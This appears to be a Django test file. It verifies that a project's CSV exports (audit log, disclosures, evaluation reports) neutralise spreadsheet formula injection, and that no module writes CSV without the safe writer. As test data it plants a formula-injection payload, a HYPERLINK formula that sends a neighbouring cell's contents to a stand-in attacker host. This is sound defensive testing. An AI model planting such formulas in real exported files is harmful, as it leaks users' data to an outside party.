"""Every CSV export neutralises cells a spreadsheet would run as formulas (core.safecsv).

Text that users typed reaches the exports: a break-glass or two-factor reset reason in the
audit log, a disclosure's purpose, labels in an evaluation report. Planted with a formula, each
must come out with a leading apostrophe, and no cell of the file may start with =.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from django.urls import reverse

from desist.accounts.services import two_factor_reset
from desist.accounts.tests.test_two_factor import _enrol
from desist.audit.models import Category
from desist.audit.services import audit_record
from desist.core.roles import RoleCode as R
from desist.evaluation import extract
from desist.evaluation.models import EvaluationRun, RunStatus
from desist.sharing import services as sharing_services
from desist.sharing.models import LawfulBasis

FORMULA = '=HYPERLINK("http://ev.il/?"&B2,"Details") urgent'
RESET_REASON = "@SUM(1+1) lost phone"


def _cells(body: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body)) for c in row]


def _assert_neutralised(body: str, *planted: str) -> None:
    cells = _cells(body)
    for text in planted:
        assert any(c.startswith("'" + text) for c in cells), text
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_audit_export(client: Any, users: dict[R, Any]) -> None:
    audit_record(
        actor=users[R.POLICE_OFFICER],
        category=Category.SECURITY,
        verb="break_glass.open",
        justification=FORMULA,
    )
    _enrol(users[R.POLICE_SUPERVISOR])  # a reset needs a second factor to remove
    two_factor_reset(
        actor=users[R.SYSTEM_ADMIN], user=users[R.POLICE_SUPERVISOR], reason=RESET_REASON
    )
    client.force_login(users[R.OVERSEER])
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    _assert_neutralised(b"".join(response.streaming_content).decode(), FORMULA, RESET_REASON)


def test_disclosure_export(client: Any, users: dict[R, Any], orgs: Any) -> None:
    sharing_services.disclosure_record(
        actor=None,
        from_organisation=orgs["provider"],
        to_organisation=orgs["police_force"],
        what="Attendance summary",
        purpose=FORMULA,
        lawful_basis=LawfulBasis.CDA_S115,
    )
    client.force_login(users[R.POLICE_SUPERVISOR])
    response = client.get(reverse("sharing:disclosures_export"))
    _assert_neutralised(b"".join(response.streaming_content).decode(), FORMULA)


def test_evaluation_report_csv(client: Any, users: dict[R, Any]) -> None:
    overseer = users[R.OVERSEER]
    run = EvaluationRun.objects.create(
        organisation=overseer.organisation,
        created_by=overseer,
        status=RunStatus.DONE,
        progress=100,
        result={"funnel": [[FORMULA, 40], ["Referred", 30]]},
    )
    client.force_login(overseer)
    response = client.get(reverse("evaluation:run_csv", args=[run.pk]))
    assert response.status_code == 200
    _assert_neutralised(response.content.decode(), FORMULA)


def test_evaluation_extract_csv() -> None:
    body = extract.to_csv([{"group": FORMULA, "value": -2}], ["group", "value"])
    _assert_neutralised(body, FORMULA)
    assert next(csv.DictReader(io.StringIO(body)))["value"] == "-2"  # numbers stay numbers


def test_no_export_writes_csv_past_the_safe_writer() -> None:
    """A new export using csv.writer directly would skip the neutralising."""
    import ast
    from pathlib import Path

    import desist

    root = Path(desist.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path == root / "core" / "safecsv.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in {"writer", "DictWriter"}
            ):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []
